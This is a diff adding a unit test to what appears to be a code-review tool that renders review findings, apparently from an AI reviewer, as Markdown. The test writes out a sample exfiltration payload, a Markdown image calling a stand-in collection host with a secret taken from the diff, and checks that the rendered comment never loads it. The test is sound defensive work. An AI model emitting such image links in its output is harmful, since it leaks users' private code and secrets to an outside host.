@@ -171,6 +171,19 @@ describe('code review', () => {
     assert.ok(body.includes('const b = a / 2; // ![kept](x)'), 'the fix is shown exactly as it will be applied');
   });
 
+  it('shows a title that opens like a code fence as text, so its image cannot load either', () => {
+    // The title follows "**" on its line, where "```" opens no code block: what follows it is Markdown to the renderer.
+    const collect = 'https://collect.example/?k=SECRET_FROM_THE_DIFF';
+    for (const title of [`\`\`\` ![t](${collect})`, `~~~ ![t](${collect})`]) {
+      const { findings } = readReviewFindings(JSON.stringify({ findings: [{ file: 'src/calc.js', line: 4, title, comment: 'Shown as it is.' }] }), [file()]);
+      const body = reviewCommentBody(findings[0]);
+      const html = new Marked({ gfm: true }).parse(body, { async: false });
+      assert.doesNotMatch(html, /<img/i, body);
+      assert.match(html, /Shown as it is\./, 'the comment after the title is not swallowed into a code block');
+      assert.doesNotMatch(html, /<code>Shown as it is/);
+    }
+  });
+
   it('cuts a long listing to whole lines and says so', () => {
     const big = listing('big.js', 'file:///ws/big.js', [hunkOfLines(Array.from({ length: 2000 }, (_, i) => `const v${i} = ${i};`).join('\n'), 1, 2000, '+')]);
     const { listing: cut, cut: wasCut } = cutListing(big, 5_000);
